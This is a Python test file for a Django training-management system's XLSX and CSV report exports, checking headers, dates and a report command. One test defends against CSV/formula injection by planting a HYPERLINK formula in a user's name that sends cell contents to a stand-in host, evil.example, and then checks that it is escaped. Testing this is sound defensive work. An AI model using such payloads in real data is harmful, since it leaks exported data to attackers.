"""The exports, opened back: XLSX with openpyxl cell by cell, CSV as text; and the command that writes the same file."""

import datetime
import io

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from lms.enrollment.models import Enrollment


@pytest.fixture
def admin(make_user):
    client = Client()
    client.force_login(make_user(email="admin@example.vn", is_superuser=True, is_staff=True))
    return client


def sheet_of(response):
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content)).active


def test_the_coverage_xlsx_has_vietnamese_headers_numbers_and_a_frozen_filtered_header(admin, province):
    sheet = sheet_of(admin.get("/admin/reports/coverage/?unit=TT&format=xlsx"))
    assert [cell.value for cell in sheet[1]] == [
        "Mã đơn vị", "Đơn vị", "Cấp", "Số cán bộ", "Thành viên đã xác nhận", "Được phân công", "Chưa bắt đầu",
        "Đang học", "Đã hoàn thành", "Quá hạn", "Chứng chỉ", "Tỷ lệ đã bồi dưỡng (%)",
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:L5"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows == [
        ["TT", "Tỉnh Thử", 0, 14, 8, 7, 2, 2, 3, 2, 2, 16.7],
        ["TT-A", "Xã An", 1, 4, 5, 4, 1, 2, 1, 2, 0, 16.7],
        ["TT-A1", "Tổ An Một", 2, 0, 2, 1, 1, 0, 0, 1, 0, 0.0],
        ["TT-B", "Xã Bình", 1, 0, 2, 2, 1, 0, 1, 0, 1, 50.0],
    ]
    assert all(isinstance(value, (int, float)) for row in rows for value in row[2:])


def test_the_headers_are_english_for_an_english_viewer(admin, province):
    admin.cookies["django_language"] = "en"
    sheet = sheet_of(admin.get("/admin/reports/coverage/?unit=TT&format=xlsx", HTTP_ACCEPT_LANGUAGE="en"))
    assert sheet["A1"].value == "Unit code" and sheet["L1"].value == "% trained"


def test_the_people_xlsx_has_dates_as_dates(admin, province):
    Enrollment.objects.filter(user=province.people.a2, course=province.c2).update(deadline=datetime.date(2025, 3, 1))
    sheet = sheet_of(admin.get("/admin/reports/people/?unit=TT&format=xlsx&q=tran thi bich"))
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:L3"
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Họ và tên", "Mã cán bộ", "E-mail"]
    rows = {row[6].value: row for row in sheet.iter_rows(min_row=2)}
    done, late = rows["Dịch vụ công trực tuyến"], rows["Chữ ký số"]
    assert done[10].value == datetime.datetime(2025, 2, 3) and done[10].number_format == "DD/MM/YYYY"
    assert done[7].value == "Đã hoàn thành" and done[8].value == 100
    assert late[9].value == datetime.datetime(2025, 3, 1) and late[7].value == "Quá hạn" and late[8].value == 50


def test_formulas_in_names_are_neutralised_in_both_formats(admin, province):
    province.people.a1.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    province.people.a1.save()
    csv_text = admin.get("/admin/reports/people/?unit=TT-A&format=csv").content.decode("utf-8")
    assert csv_text.startswith("\ufeff")
    assert "'=HYPERLINK" in csv_text and "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
    sheet = sheet_of(admin.get("/admin/reports/people/?unit=TT-A&format=xlsx"))
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")" in names
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))


def test_the_coverage_csv(admin, province):
    text = admin.get("/admin/reports/coverage/?unit=TT&format=csv").content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("Mã đơn vị,Đơn vị")
    assert lines[2] == "TT-A,Xã An,1,4,5,4,1,2,1,2,0,16.7"


def test_the_command_writes_the_same_file(admin, province, tmp_path):
    target = tmp_path / "bao-cao.xlsx"
    call_command("coverage_report", "--unit", "TT", "--format", "xlsx", "-o", str(target), stderr=io.StringIO())
    from_command = [[cell.value for cell in row] for row in load_workbook(target).active.iter_rows()]
    from_page = [[cell.value for cell in row] for row in sheet_of(
        admin.get("/admin/reports/coverage/?unit=TT&format=xlsx")).iter_rows()]
    assert from_command == from_page
    csv_target = tmp_path / "c2.csv"
    call_command("coverage_report", "--unit", "TT-B", "--course", "chu-ky-so", "--format", "csv", "-o",
                 str(csv_target), stderr=io.StringIO())
    assert csv_target.read_text("utf-8-sig").splitlines()[1] == "TT-B,Xã Bình,0,0,2,1,0,0,1,0,1,50.0"


def test_the_command_refuses_an_unknown_unit(province):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="NO-SUCH"):
        call_command("coverage_report", "--unit", "NO-SUCH")
